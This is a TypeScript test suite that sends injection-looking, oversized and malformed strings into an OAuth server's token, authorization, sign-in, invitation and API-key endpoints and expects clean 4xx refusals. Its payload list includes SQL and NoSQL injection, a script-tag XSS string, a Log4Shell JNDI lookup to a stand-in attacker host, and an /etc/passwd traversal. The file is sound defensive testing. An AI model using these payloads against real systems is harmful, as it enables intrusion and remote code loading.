/**
 * Injection-looking, oversized and malformed strings in every field of the OAuth server's
 * endpoints: each answer is a clear 4xx (never a 500, never a success it should not be), and the
 * directory table is left as it was (failed sign-ins are counted, by design, and nothing else).
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { getOAuthClient } from '../../../shared/directory/oauth-clients';
import { ensureServiceClients, PORTAL_CLIENT_ID, WEB_CLIENT_ID } from '../../../shared/oauth/service-clients';
import { makeOrganization, makePatient, makePractitioner } from '../../support/directory';
import { call, type TestResponse } from '../../support/invoke';
import { FORM, pkcePair } from '../../support/oauth';
import { directoryRows } from '../../support/store';

const HOSTILE = [
  "' OR '1'='1' --",
  '"><script>alert(1)</script>',
  '${jndi:ldap://attacker.example/a}',
  '../../../../etc/passwd',
  'Robert"); DROP TABLE users;--',
  '{"$gt": ""}',
  'INVITATION#abc|UNIQUE',
  '\u202e\u2066 spoof',
  'x'.repeat(3000),
  '😀'.repeat(700),
  'a\u0000b',
  '%E0%A4%A',
];

/** Every directory row except failed-sign-in counters, as comparable text. */
const snapshot = () => directoryRows({ withoutSignIns: true });

function expectClientError(res: TestResponse, what: string) {
  expect(res.status, `${what}: ${res.text.slice(0, 200)}`).toBeGreaterThanOrEqual(400);
  expect(res.status, what).toBeLessThan(500);
}

let practitionerToken: string;
let patientId: number;
let portalNumber: number;

beforeAll(async () => {
  await ensureServiceClients();
  const org = await makeOrganization();
  practitionerToken = (await makePractitioner({ organizations: [org] })).token;
  patientId = (await makePatient({ organizations: [org] })).id;
  portalNumber = (await getOAuthClient(PORTAL_CLIENT_ID))!.id;
});

const form = (url: string, params: Record<string, string>, headers: Record<string, string> = {}) =>
  call('POST', url, { headers: { ...FORM, ...headers }, body: new URLSearchParams(params).toString() });

describe('hostile input', () => {
  it('is refused in every token and revocation parameter', async () => {
    const before = await snapshot();
    const pkce = pkcePair();
    const base = { grant_type: 'authorization_code', code: 'c'.repeat(43), redirect_uri: 'http://localhost:8000/auth/callback', client_id: WEB_CLIENT_ID, code_verifier: pkce.verifier };
    for (const value of HOSTILE) {
      for (const field of Object.keys(base)) expectClientError(await form('/o/token/', { ...base, [field]: value }), `token ${field}=${value.slice(0, 20)}`);
      expectClientError(await form('/o/token/', { grant_type: 'refresh_token', client_id: WEB_CLIENT_ID, refresh_token: value }), 'refresh_token');
      expectClientError(await form('/o/token/', { grant_type: 'refresh_token', client_id: WEB_CLIENT_ID, refresh_token: 'r', scope: value }), 'scope');
      expectClientError(await form('/o/token/', { grant_type: 'client_credentials', client_id: value, client_secret: value }), 'client_secret');
      expectClientError(await form('/o/token/', { grant_type: 'client_credentials' }, { authorization: `Basic ${Buffer.from(`${value}:${value}`).toString('base64')}` }), 'basic');
      const revoke = await form('/o/revoke_token/', { token: value, client_id: WEB_CLIENT_ID, token_type_hint: value });
      // RFC 7009: an invalid token is answered 200 (and revokes nothing); malformed parameters are 400.
      expect([200, 400]).toContain(revoke.status);
      expectClientError(await form('/o/revoke_token/', { token: 't', client_id: value }), 'revoke client_id');
    }
    expect(await snapshot()).toEqual(before);
  });

  it('is refused in the authorization request and the sign-in form', async () => {
    const before = await snapshot();
    const pkce = pkcePair();
    const base = { response_type: 'code', client_id: WEB_CLIENT_ID, redirect_uri: 'http://localhost:8000/auth/callback', code_challenge: pkce.challenge, code_challenge_method: 'S256', scope: 'openid' };
    for (const value of HOSTILE) {
      for (const field of Object.keys(base)) {
        const res = await call('GET', `/o/authorize/?${new URLSearchParams({ ...base, [field]: value })}`);
        // Before the redirect URI is trusted: an error page; after: an error sent back to the client.
        // Unknown scope tokens are left out of the grant (RFC 6749 §3.3), so a well-formed odd scope still shows the form.
        expect(field === 'scope' ? [400, 303, 200] : [400, 303], field).toContain(res.status);
        if (res.status === 303) expect(new URL(res.headers['location']!).searchParams.get('error')).toBeTruthy();
      }
      const page = await call('GET', `/o/authorize/?${new URLSearchParams(base)}`);
      const cookie = page.cookies[0]!.split(';')[0]!;
      const csrf = /name="csrf" value="([^"]+)"/.exec(page.text)![1]!;
      for (const [email, password] of [[value, 'pw'], ['someone@example.test', value], [`${value}@example.test`, value]]) {
        const res = await form('/o/authorize/', { ...base, csrf, email: email!, password: password! }, { cookie });
        expectClientError(res, `sign-in ${value.slice(0, 20)}`);
        expect(res.headers['location']).toBeUndefined();
      }
    }
    expect(await snapshot()).toEqual(before);
  });

  it('is refused in every field of the invitation and API-key bodies and in the invitation path', async () => {
    const before = await snapshot();
    const json = { 'content-type': 'application/json' };
    for (const value of HOSTILE) {
      for (const body of [
        { patient_id: value, client_id: portalNumber },
        { patient_id: patientId, client_id: value },
        { patient_id: patientId, client_id: portalNumber, send_email: value },
        { patient_id: patientId, client_id: portalNumber, [value.slice(0, 50)]: 1 },
      ]) {
        expectClientError(await call('POST', '/api/v1/invitation', { token: practitionerToken, body, headers: json }), `invitation ${JSON.stringify(body).slice(0, 60)}`);
      }
      expectClientError(await call('POST', `/api/v1/invitation/${encodeURIComponent(value)}`), 'redeem');
      expectClientError(await call('DELETE', `/api/v1/invitation/${encodeURIComponent(value)}`, { token: practitionerToken }), 'cancel');
      expectClientError(await call('GET', `/api/v1/invitation?patient_id=${encodeURIComponent(value)}`, { token: practitionerToken }), 'list');
      expectClientError(await call('DELETE', `/api/v1/practitioner_clients/${encodeURIComponent(value)}`, { token: practitionerToken }), 'key delete');
    }
    for (const name of ['x'.repeat(201), 'a\u0000b', '']) {
      expectClientError(await call('POST', '/api/v1/practitioner_clients', { token: practitionerToken, body: { name }, headers: json }), 'key name');
    }
    expect(await snapshot()).toEqual(before);
  });

  it('stores an injection-looking API key name verbatim, as text', async () => {
    const name = 'Robert"); DROP TABLE users;-- <script>';
    const res = await call('POST', '/api/v1/practitioner_clients', { token: practitionerToken, body: { name }, headers: { 'content-type': 'application/json' } });
    expect(res.status).toBe(201);
    expect(res.json.name).toBe(name);
  });
});
